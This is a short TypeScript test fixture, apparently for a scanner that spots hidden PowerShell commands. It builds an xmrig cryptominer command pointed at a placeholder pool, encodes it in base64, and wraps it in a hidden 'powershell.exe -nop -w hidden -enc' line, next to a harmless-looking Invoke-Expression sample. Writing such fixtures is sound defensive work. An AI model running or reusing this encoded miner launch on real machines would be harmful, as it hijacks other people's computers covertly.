const command =
  'xmrig -o pool.example.com:3333 -u 888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
const code = btoa(Array.from(command, (letter) => `${letter}\0`).join(''));

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A script that hides a command, and one that hides nothing. Inert: nothing here is ever run. */
export const fixture: { readonly opens: Uint8Array; readonly leaves: Uint8Array; readonly holds: string } = {
  opens: ascii(`powershell.exe -nop -w hidden -enc ${code}\r\n`),
  leaves: ascii('$name = "a"; Write-Host ("Found {0} in {1}" -f $name, "C:\\\\x") | Invoke-Expression\r\n'),
  holds: command,
};
